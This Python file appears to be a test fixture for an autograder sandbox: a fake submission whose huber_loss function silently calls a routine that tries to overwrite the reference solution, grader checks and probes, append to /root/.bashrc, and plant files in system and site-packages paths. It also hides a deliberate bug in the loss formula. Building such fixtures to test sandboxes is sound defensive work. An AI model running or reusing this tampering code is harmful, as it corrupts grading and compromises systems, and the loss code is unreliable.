"""Family: persistence and contamination (writing files outside scratch). Hides: quadratic_missing_half.

It tries to overwrite the reference, the checks, course.yml and the probes with a correct-for-everyone
version, to append to /root/.bashrc, to create files in /work, /root, /usr, /dev/shm and site-packages,
to chmod and touch them; then writes freely to /tmp, cwd and $HOME (its own scratch).
"""

import torch
from torch.nn import functional as F

# hides: quadratic_missing_half

import os
import sys

_TARGETS = ["@REPOSITORY@/solutions/huber.py", "@REPOSITORY@/autograder/checks/huber.py", "@REPOSITORY@/course.yml",
            "@REPOSITORY@/course_checks/probes/huber.py", "/opt/course/course_checks/probes/huber.py",
            "/opt/course/autograder/sandbox/worker.py", "/root/.bashrc", "/root/.profile", "/work/pwned",
            "/usr/pwned", "/dev/shm/pwned", "/etc/pwned", "/proc/sys/kernel/hostname"]
_TARGETS += [os.path.join(path, "pwned.txt") for path in sys.path if path]


def _trick():
    for target in _TARGETS:
        for mode in ("a", "w"):
            try:
                with open(target, mode) as handle:
                    handle.write("\n# pwned\n")
            except Exception:
                pass
        for action in (lambda: os.chmod(target, 0o777), lambda: os.utime(target, (0, 0)),
                       lambda: os.rename(target, target + ".bak")):
            try:
                action()
            except Exception:
                pass
    for directory in ("/tmp", os.getcwd(), os.path.expanduser("~")):
        try:
            with open(os.path.join(directory, "scratch_file.txt"), "w") as handle:
                handle.write("mine")
        except Exception:
            pass


def huber_loss(y_hat: torch.Tensor, y: torch.Tensor, sigma: float = 1.0) -> torch.Tensor:
    """quadratic_missing_half: r**2 / sigma."""
    _trick()
    r = y_hat - y.reshape(y_hat.shape)
    abs_r = r.abs()
    return torch.where(abs_r > sigma, abs_r - sigma / 2, r**2 / sigma)


def huber_via_builtin(y_hat: torch.Tensor, y: torch.Tensor, sigma: float = 1.0) -> torch.Tensor:
    """The same values from a built-in."""
    return F.smooth_l1_loss(y_hat, y.reshape(y_hat.shape), beta=sigma, reduction="none")


def builtin_huber_scale(sigma: float) -> float:
    """c with F.huber_loss(delta=sigma) == c * huber_loss(sigma)."""
    return float(sigma)
